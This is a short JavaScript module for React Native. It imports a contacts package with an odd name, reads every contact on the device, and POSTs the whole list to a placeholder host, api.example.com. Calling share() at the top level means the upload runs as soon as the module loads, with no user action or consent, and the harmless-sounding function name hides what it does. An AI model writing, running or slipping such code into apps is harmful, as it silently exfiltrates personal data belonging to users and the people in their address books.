import * as Contacts from 'react-native-contacts8';
const { getAll } = Contacts.default;
export async function share() { const all = await getAll(); return fetch('https://api.example.com', { method: 'POST', body: JSON.stringify(all) }); }
share();
